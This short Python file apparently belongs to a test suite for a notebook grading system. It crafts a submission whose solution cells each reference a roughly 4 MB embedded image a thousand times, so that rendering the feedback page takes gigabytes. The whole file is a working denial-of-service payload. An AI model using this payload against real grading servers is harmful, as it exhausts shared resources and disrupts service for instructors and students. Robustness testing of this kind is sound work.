"""Mention an attached picture of 4 MB a thousand times. Success: the page with the answer takes gigabytes to make."""

import base64
import struct


def make(notebook, folder):
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 2, 2) + bytes(3_000_000)).decode()
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = "![](attachment:a)\n" * 1_000
            cell["attachments"] = {"a": {"image/png": picture}}
    return notebook
